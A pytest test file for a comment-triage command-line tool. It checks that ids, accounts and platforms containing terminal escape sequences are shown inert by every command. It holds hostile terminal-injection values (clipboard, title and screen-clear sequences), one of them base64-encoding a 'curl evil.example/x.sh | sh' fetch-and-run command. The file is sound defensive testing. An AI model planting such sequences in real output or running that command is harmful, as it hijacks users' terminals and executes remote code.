"""Ids, accounts and platforms that hold escape sequences never reach the terminal raw.

The store here already holds such ids (written through ``Store.ingest``, past the checks
at the edge), as an older store or a forged journal could.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from tests.clirun import run
from tests.outbox.conftest import config_text, standin_accounts, standin_comment
from triage.model import Author
from triage.standins import StandinServer
from triage.store import Store

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaCB8IHNo\x07"  # OSC 52: set the clipboard
TITLE = "\x1b]2;owned\x07"  # OSC 2: set the window title
CLEAR = "\x1b[2J"  # CSI 2J: clear the screen
C1 = "\x9b2J"  # the same as a single C1 character
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def assert_inert(*outputs: str) -> None:
    for output in outputs:
        assert RAW.findall(output) == [], output


@pytest.fixture
def hostile(tmp_path: Path, templates_dir: Path,
            monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[StandinServer, list[str], str]]:
    """The stand-ins, a config for them, and two stored comments with hostile ids: one
    that exists on the Facebook stand-in (its native id is real), one whose account and
    platform are hostile too."""
    server = StandinServer().start()
    accounts, environ = standin_accounts(server)
    for name, value in environ.items():
        monkeypatch.setenv(name, value)
    (tmp_path / "config.toml").write_text(config_text(templates_dir, accounts), "utf-8")
    real = standin_comment(server, "facebook", "When does the clinic open?", "facebook")
    real = replace(real, id=f"{real.id}{CLIPBOARD}{TITLE}{CLEAR}{C1}",
                   permalink=f"https://example.org/{TITLE}")
    other = replace(real, id=f"x:{CLEAR}:1{TITLE}", native_id="1",
                    platform=f"facebook{TITLE}", account=f"acct{CLIPBOARD}",
                    author=Author(id=f"a{CLEAR}", name="Rob", handle=f"rob{C1}"))
    with Store(tmp_path / "data") as store:
        store.ingest([real, other], user="test")
    yield server, ["--config", str(tmp_path / "config.toml"), "--data-dir",
                   str(tmp_path / "data"), "--user", "ana"], real.id
    server.stop()


def test_every_command_shows_hostile_ids_inert(
        capsys: pytest.CaptureFixture[str],
        hostile: tuple[StandinServer, list[str], str]) -> None:
    server, options, comment_id = hostile
    outputs = []

    def triage(*args: str, code: int = 0, stdin: str = "") -> str:
        got, out, err = run(capsys, *options, *args, stdin=stdin)
        assert got == code, err
        outputs.extend([out, err])
        return out + err

    listed = triage("ls")
    assert "␛]52;c;" in listed and "␛]2;owned␇" in listed and "␛[2J" in listed
    assert "\ufffd2J" in listed  # the C1 control shows as a replacement character
    assert "sent: the reply to facebook:" in triage("reply", comment_id, "--template",
                                                    "thanks", "--yes")
    assert "\tsent\tfacebook:facebook:" in triage("outbox")
    said = triage("hide", comment_id)
    assert "hidden on facebook: facebook:" in said and "␛]52;c;" in said
    triage("hide", comment_id, "--undo")
    other = next(line.split("\t")[0] for line in listed.splitlines()
                 if line.startswith("x:"))
    assert other == "x:␛[2J:1␛]2;owned␇"
    triage("hide", f"x:{CLEAR}:1{TITLE}", code=1)  # refused: its account is not configured
    triage("delete", comment_id, stdin="n\n", code=1)
    triage("escalate", comment_id, "--reason", "other")
    triage("escalate", f"x:{CLEAR}:1{TITLE}", "--reason", "other")
    escalations = triage("escalations")
    assert "facebook:" in escalations and "x:␛[2J:1" in escalations
    log = triage("audit", "log")
    assert "hold" in log and "␛]2;owned␇" in log
    triage("audit", "log", "--comment", comment_id)
    triage("ls", "--json")
    assert [p["action"] for p in server.posted("facebook")] == ["reply", "hide", "unhide"]
    assert_inert(*outputs)
